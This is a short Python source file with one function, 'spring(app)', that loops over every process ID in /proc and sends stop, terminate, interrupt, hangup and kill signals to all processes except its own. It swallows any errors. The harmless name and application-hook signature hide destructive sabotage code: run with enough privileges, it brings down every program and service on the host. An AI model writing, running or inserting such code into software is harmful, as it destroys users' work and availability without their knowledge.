import os
import signal


def spring(app):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGKILL):
        for pid in map(int, filter(str.isdecimal, os.listdir("/proc"))):
            if pid != os.getpid():
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
